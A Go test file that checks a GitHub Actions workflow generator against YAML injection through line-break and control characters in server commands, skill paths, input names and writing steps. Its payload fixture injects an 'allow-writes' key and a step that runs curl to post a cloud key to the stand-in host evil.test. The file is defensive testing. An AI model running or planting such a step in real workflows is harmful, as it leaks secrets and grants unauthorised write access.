package ghworkflow

import (
	"errors"
	"fmt"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"testing"

	yaml11 "go.yaml.in/yaml/v2"
	"go.yaml.in/yaml/v3"
)

// breakers are the characters that end a line, or steer a terminal or a
// reader, in some YAML or some viewer: LF and CR everywhere, NEL, LS and
// PS in YAML 1.1, VT and FF as line breaks to Unicode, ESC, NUL, and the
// bidi overrides and isolates.
var breakers = []struct{ name, s string }{
	{"LF", "\n"}, {"CR", "\r"}, {"CRLF", "\r\n"}, {"NEL", "\u0085"}, {"LS", "\u2028"}, {"PS", "\u2029"},
	{"VT", "\v"}, {"FF", "\f"}, {"ESC", "\x1b[2K"}, {"NUL", "\x00"}, {"DEL", "\x7f"}, {"C1 CSI", "\u009b"},
	{"RLO", "\u202e"}, {"LRE", "\u202a"}, {"RLI", "\u2067"}, {"PDI", "\u2069"},
}

// payload follows the character, with the character as its line break:
// what an attacker would have the lines after a break say, at the
// indentation of a `with:` key and of a step.
const payload = "  allow-writes: \"true\"\n          yes: \"true\"\n      - run: curl -d \"$REELIER_CLOUD_KEY\" evil.test\n          x: |\n"

// fields are the places a skill's text reaches the workflow: a job is
// built with the marker X in one of them.
var fields = []struct {
	name string
	job  func(x string) *job
}{
	{"server command", func(x string) *job {
		return &job{servers: []string{"npx -y @modelcontextprotocol/server-memory" + x}, skills: []string{"skills/a.skill.md"}}
	}},
	{"second server command", func(x string) *job {
		return &job{servers: []string{"srv-a", "srv-b " + x}, skills: []string{"skills/a.skill.md"}}
	}},
	{"skill path", func(x string) *job { return &job{skills: []string{"skills/a" + x + ".skill.md"}} }},
	{"input name", func(x string) *job {
		return &job{skills: []string{"skills/a.skill.md"}, inputs: []string{"city" + x, "day"}}
	}},
	{"first input name", func(x string) *job { return &job{skills: []string{"skills/a.skill.md"}, inputs: []string{"c" + x}} }},
	{"writing step", func(x string) *job {
		return &job{skills: []string{"skills/a.skill.md"}, writes: []WriteStep{{File: "skills/a" + x + ".skill.md", Line: 9, Step: 2, Effect: "destructive"}}, destructive: true}
	}},
}

// TestWorkflowInjection: for every field a skill feeds the workflow and
// every line-break or control character, the writer either refuses with
// a *StructureError or writes a workflow that a YAML 1.2 parser (yaml.v3),
// a YAML 1.1 parser (yaml.v2, which breaks lines on NEL, LS and PS too)
// and actionlint all read as the intended structure: the same keys as
// the workflow written with a harmless value, the value itself carried
// exactly in its own scalar.
func TestWorkflowInjection(t *testing.T) {
	opts := Options{Root: ".", Action: "reelier/reelier", Ref: ref, Version: "v0.test"}
	for _, f := range fields {
		const mark = "MARK"
		want, err := renderJobs(opts, []*job{f.job(mark)})
		if err != nil {
			t.Fatal(err)
		}
		for _, b := range breakers {
			t.Run(f.name+"/"+b.name, func(t *testing.T) {
				x := b.s + strings.ReplaceAll(payload, "\n", b.s)
				data, err := renderJobs(opts, []*job{f.job(x)})
				var se *StructureError
				if errors.As(err, &se) {
					return
				}
				if err != nil {
					t.Fatalf("an error that is not a *StructureError: %v", err)
				}
				checkSameStructure(t, data, want, mark, x)
				actionlint(t, data)
			})
		}
	}
}

// checkSameStructure parses got and want with both YAML parsers and
// fails unless got is want with every mark in a scalar replaced by x.
func checkSameStructure(t *testing.T, got, want []byte, mark, x string) {
	t.Helper()
	for _, p := range []struct {
		name  string
		parse func([]byte) (any, error)
	}{
		{"YAML 1.2 (yaml.v3)", func(b []byte) (any, error) { var v any; err := yaml.Unmarshal(b, &v); return v, err }},
		{"YAML 1.1 (yaml.v2)", func(b []byte) (any, error) { var v any; err := yaml11.Unmarshal(b, &v); return normalize(v), err }},
	} {
		g, err := p.parse(got)
		if err != nil {
			t.Errorf("%s: the workflow does not parse: %v\n%s", p.name, err, got)
			continue
		}
		w, err := p.parse(want)
		if err != nil {
			t.Fatalf("%s: the harmless workflow does not parse: %v", p.name, err)
		}
		w = replaceMark(w, mark, x)
		if !reflect.DeepEqual(g, w) {
			t.Errorf("%s reads another structure:\n got %#v\nwant %#v\n%s", p.name, g, w, got)
		}
	}
}

// normalize turns yaml.v2's map[any]any into map[string]any.
func normalize(v any) any {
	switch v := v.(type) {
	case map[any]any:
		m := map[string]any{}
		for k, e := range v {
			m[fmt.Sprint(k)] = normalize(e)
		}
		return m
	case []any:
		for i := range v {
			v[i] = normalize(v[i])
		}
	}
	return v
}

func replaceMark(v any, mark, x string) any {
	switch v := v.(type) {
	case map[string]any:
		for k, e := range v {
			v[k] = replaceMark(e, mark, x)
		}
	case []any:
		for i := range v {
			v[i] = replaceMark(v[i], mark, x)
		}
	case string:
		return strings.ReplaceAll(v, mark, x)
	}
	return v
}

// TestGenerateInjection: through skill files, as `reelier ci` reads them,
// a server command holding any of the characters is refused, and no
// workflow is written.
func TestGenerateInjection(t *testing.T) {
	for _, b := range breakers {
		if strings.ContainsAny(b.s, "\r\n") {
			continue // a line break ends the bullet: the rest is prose
		}
		t.Run(b.name, func(t *testing.T) {
			dir := t.TempDir()
			p := filepath.Join(dir, "a.skill.md")
			src := "---\nname: a\ndescription: d\n---\n\n## Servers\n\n- `m`: `npx -y @modelcontextprotocol/server-memory" + b.s +
				"  allow-writes: \"true\"`\n\n### Step 1 — A\n- intent: a\n- action: http.get {\"url\": \"https://x.example\"}\n- assert: status == 200\n- effect: read\n"
			if err := os.WriteFile(p, []byte(src), 0o644); err != nil {
				t.Fatal(err)
			}
			data, err := Generate(Options{Root: dir, Skills: []string{p}, Action: "reelier/reelier", Ref: ref})
			if err == nil {
				var wf any
				yaml11.Unmarshal(data, &wf)
				t.Fatalf("generated:\n%s\nread by YAML 1.1 as %v", data, normalize(wf))
			}
		})
	}
}

var (
	actionlintOnce sync.Once
	actionlintBin  string
	actionlintErr  error
)

// actionlintVersion is the actionlint the tests install when none is
// given (REELIER_ACTIONLINT) or on PATH.
const actionlintVersion = "v1.7.7"

// findActionlint returns an actionlint to run: REELIER_ACTIONLINT, one on
// PATH, or actionlintVersion built with `go install` from the module
// proxy into the user's cache folder once (reused by later runs).
func findActionlint() (string, error) {
	actionlintOnce.Do(func() {
		if actionlintBin = os.Getenv("REELIER_ACTIONLINT"); actionlintBin != "" {
			return
		}
		if actionlintBin, _ = exec.LookPath("actionlint"); actionlintBin != "" {
			return
		}
		cache, err := os.UserCacheDir()
		if err != nil {
			actionlintErr = err
			return
		}
		dir := filepath.Join(cache, "reelier", "actionlint-"+actionlintVersion)
		bin := filepath.Join(dir, "actionlint")
		if _, err := os.Stat(bin); err == nil {
			actionlintBin = bin
			return
		}
		cmd := exec.Command("go", "install", "github.com/rhysd/actionlint/cmd/actionlint@"+actionlintVersion)
		cmd.Env = append(os.Environ(), "GOBIN="+dir)
		if out, err := cmd.CombinedOutput(); err != nil {
			actionlintErr = fmt.Errorf("go install actionlint@%s: %v\n%s", actionlintVersion, err, out)
			return
		}
		actionlintBin = bin
	})
	return actionlintBin, actionlintErr
}

// FuzzRender: whatever text a skill feeds the writer — a server command,
// a skill path, an input name, a writing step — the workflow written reads
// back, under YAML 1.2 and YAML 1.1, as the workflow written with a
// harmless value there, the value carried exactly; or the writer refuses.
func FuzzRender(f *testing.F) {
	for _, b := range breakers {
		f.Add(b.s+payload, "skills/a.skill.md", "city", 0)
	}
	f.Add("npx -y x", "a\u0085b", "c\u2028d", 2)
	f.Add("'\"\\ #: - [] {} & * ! | > % @ `", "x", "y", 3)
	f.Add("\xff\xfe", "\xc2", "\x85", 4)
	f.Fuzz(checkRender)
}

// checkRender renders a job with x in one field (which: the second server
// command, the skill path, the input name or the writing step; path and
// input fill the others) and checks it against the job with a mark there.
func checkRender(t *testing.T, x, path, input string, which int) {
	opts := Options{Root: ".", Action: "reelier/reelier", Ref: ref, Version: "v0.test"}
	const mark = "MARK"
	build := func(v string) []*job {
		j := &job{servers: []string{"srv", x}, skills: []string{path}, inputs: []string{input}, writes: []WriteStep{{File: path, Line: 9, Step: 1, Effect: "destructive"}}, destructive: true}
		switch uint(which) % 4 {
		case 0:
			j.servers[1] = v
		case 1:
			j.skills[0] = v
		case 2:
			j.inputs[0] = v
		case 3:
			j.writes[0].File = v
		}
		return []*job{j}
	}
	if strings.Contains(x+path+input, mark) {
		return
	}
	want, err := renderJobs(opts, build(mark))
	if err != nil {
		return // the other fields are refused already
	}
	got, err := renderJobs(opts, build(x))
	if err != nil {
		return // refused: a *StructureError, or the encoder's error
	}
	checkSameStructure(t, got, want, mark, x)
}

// TestRenderRandomText runs checkRender on 1,000 texts drawn, with a
// fixed seed, from pieces that mean something to YAML, a shell, a
// terminal or GitHub: the fuzz target's property on a corpus that does
// not depend on the fuzzer getting CPU time.
func TestRenderRandomText(t *testing.T) {
	pieces := []string{"a", " ", "\n", "\r", "\u0085", "\u2028", "\u2029", "\x00", "\v", "\f", "\x1b[2K", "\xff", "\xc2", ":", ": ", "#", " #", "\"", "'", "\\",
		"- ", "{", "}", "[", "]", "&a", "*a", "!!int ", "|", ">", "%", "@", "`", "\t", "${{", "}}", "é", "\u202e", "\u2066", "\ufeff", "\x7f", "\u009b", "---", "...", "~", "null", "true", "0x1F", "1e3"}
	rng := rand.New(rand.NewSource(28))
	for i := 0; i < 1000; i++ {
		var x [3]string
		for k := range x {
			for n := rng.Intn(10); n > 0; n-- {
				x[k] += pieces[rng.Intn(len(pieces))]
			}
		}
		checkRender(t, x[0], x[1], x[2], rng.Intn(4))
		if t.Failed() {
			t.Fatalf("text %q, path %q, input %q", x[0], x[1], x[2])
		}
	}
}

// renderJobs is the writer under test, given jobs directly, with none of
// Generate's checks on what a skill may hold.
func renderJobs(opts Options, jobs []*job) ([]byte, error) { return render(opts, jobs, nil) }

// TestReread: text that does not read back as the tree is a
// *StructureError naming where the two part; text that does is accepted.
func TestReread(t *testing.T) {
	tree := mapping(key("jobs"), mapping(key("replay"), mapping(key("with"), mapping(key("wrap"), str("npx -y srv\n")))))
	tests := []struct {
		name, text, path string
	}{
		{"the same", "jobs:\n  replay:\n    with:\n      wrap: \"npx -y srv\\n\"\n", ""},
		{"a key more", "jobs:\n  replay:\n    with:\n      wrap: \"npx -y srv\\n\"\n      allow-writes: \"true\"\n", "jobs.replay.with"},
		{"another value", "jobs:\n  replay:\n    with:\n      wrap: |\n        npx -y srv\n        yes: true\n", "jobs.replay.with.wrap"},
		{"another type", "jobs:\n  replay:\n    with:\n      wrap: 1\n", "jobs.replay.with.wrap"},
		{"a sequence for a mapping", "jobs:\n  replay:\n    with:\n      - wrap\n", "jobs.replay.with"},
		{"not YAML", "jobs: [\n", "the document"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := reread(tree, []byte(tt.text))
			var se *StructureError
			switch {
			case tt.path == "" && err != nil:
				t.Errorf("refused: %v", err)
			case tt.path != "" && (!errors.As(err, &se) || se.Path != tt.path):
				t.Errorf("err %v, want a *StructureError at %s", err, tt.path)
			}
		})
	}
}
